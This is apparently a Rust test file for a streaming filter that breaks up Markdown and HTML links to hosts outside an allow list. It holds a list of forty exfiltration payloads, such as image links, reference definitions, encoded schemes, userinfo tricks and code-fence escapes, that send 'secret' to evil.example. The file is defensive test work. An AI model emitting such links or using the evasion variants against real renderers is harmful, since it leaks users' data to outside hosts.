//! Links are taken apart in every dress and every cut, and what is none stays as it is.

use super::*;

fn links() -> Links {
    let mut hosts = LinkHosts::default();
    hosts.add("docs.example.com").unwrap();
    Links::new(&hosts)
}

fn whole(text: &str) -> String {
    let mut links = links();
    links.pass(text) + &links.rest()
}

/// What comes out in two pieces, cut at every place, and letter by letter.
fn every_cut(text: &str) -> String {
    let out = whole(text);
    let mut by_letter = links();
    let letters: String = text.chars().map(|c| by_letter.pass(c.encode_utf8(&mut [0; 4]))).collect();
    assert_eq!(letters + &by_letter.rest(), out, "{text}");
    for at in (0..=text.len()).filter(|at| text.is_char_boundary(*at)) {
        let mut cut = links();
        let (one, other) = text.split_at(at);
        assert_eq!(cut.pass(one) + &cut.pass(other) + &cut.rest(), out, "{text} at {at}");
    }
    out
}

const ATTACKS: [&str; 40] = [
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example/?q=secret)",
    "[click]( <https://evil.example/secret> \"title\")",
    "[click](\n  https://evil.example/secret)",
    "![a](HTTPS://EVIL.example/secret)",
    "![a](//evil.example/secret)",
    "![a](/\\evil.example/secret)",
    "![a](\\\\evil.example/secret)",
    "![a](https&colon;//evil.example/secret)",
    "![a](&#104;ttps://evil.example/secret)",
    "![a](&Tab;//evil.example/secret)",
    "![a](/&#47;evil.example/secret)",
    "![a](https:evil.example/secret)",
    "![a](https\\://evil.example/secret)",
    "![a](https://docs.example.com@evil.example/secret)",
    "![a](https://docs.example.com\\@evil.example/secret)",
    "![a](https://docs.example.com&commat;evil.example/secret)",
    "![a](https://docs.example.com.evil.example/secret)",
    "![a](https://évil.example/secret)",
    "![a](javascript:secret)",
    "![a](data:text/html,secret)",
    "[a](mailto:me@evil.example?body=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/secret",
    "![x][ref]\n\n[ref]:\n<https://evil.example/secret>",
    "> [ref]: //evil.example/secret",
    "[![x](https://evil.example/secret)](https://evil.example/secret)",
    "<img src=https://evil.example/secret>",
    "<IMG\nsrc=//evil.example/secret>",
    "<a href='https://evil.example/secret'>x</a>",
    "<https://evil.example/secret>",
    "<svg/onload=x><image href=//evil.example/secret>",
    "` ![x](https://evil.example/secret)",
    "`a\nb` ![x](https://evil.example/secret) `c",
    "> ```\n![x](https://evil.example/secret)",
    "- ```\n![x](https://evil.example/secret)",
    "   ```\ncode\n```\n![x](https://evil.example/secret)",
    "<div>\n```\n\n![x](https://evil.example/secret)",
    "```\ncode\n```\r![x](https://evil.example/secret)",
    "``` `x`\n![x](https://evil.example/secret)",
    "    ```\n![x](https://evil.example/secret)",
];

#[test]
fn links_to_other_hosts_are_taken_apart() {
    for text in ATTACKS {
        let out = every_cut(text);
        let live = ["](", "]:", "<img", "<IMG", "<a ", "<https", "<image", "<svg"]
            .iter()
            .find(|sign| out.contains(*sign));
        // What stays in one piece leads nowhere else.
        assert!(
            live.is_none() || (*live.unwrap() == "](" && !out.contains("](h") && !out.contains("](/")),
            "{text} gave {out}"
        );
        assert!(out.contains("secret"), "the words stay: {out}");
    }
}

#[test]
fn everything_else_stays_letter_for_letter() {
    for text in [
        "",
        "See [the page](https://docs.example.com/a?b=c#d) and <https://docs.example.com>.",
        "![logo](https://docs.example.com/logo.png \"Logo\")",
        "[1]: it is so. [2] and [x] or [y][z], a[i](x), a[0]: 1, f([]) {}",
        "[above](#part) [below](part/two.md) [mail](mailto:me@example.com) [here](/a/b)",
        "if a < b and c > d; x<y, 1 <2, <b>bold</b>, <details>, </a>",
        "A bare https://evil.example/is/read as it is.",
        "[注]:这是一个很长的句子没有空格也不会被扣住",
        "```md\n![badge](https://evil.example/b.svg)\n[x]: https://evil.example\n<img src=x>\n```\nand on",
        "~~~~\n![b](https://evil.example)\n~~~\n![b](https://evil.example)\n~~~~",
        "]",
        "](",
        "<",
    ] {
        if text == "](" {
            assert_eq!(every_cut(text), "] (", "more may come one day");
        } else {
            assert_eq!(every_cut(text), text);
        }
    }
}

#[test]
fn nothing_is_held_for_longer_than_it_takes() {
    let mut links = links();
    assert_eq!(links.pass("[words that are long"), "[words that are long");
    assert_eq!(links.pass("]"), "");
    assert_eq!(links.pass("("), "");
    assert_eq!(links.pass("https://docs.example.com/"), "](https://docs.example.com/");
    assert_eq!(links.pass("path?q=1) and "), "path?q=1) and ");
    assert_eq!(links.pass("[注]:这"), "[注]:这");
}

#[test]
fn hostile_texts_take_linear_time() {
    for seed in ["[", "](", "]:", "<", "<a", "![x](", "`", "```\n", "](\n", "](https://", "\\"] {
        let text = seed.repeat(200_000 / seed.len());
        assert!(whole(&text).len() <= text.len() * 2, "{seed}");
    }
}
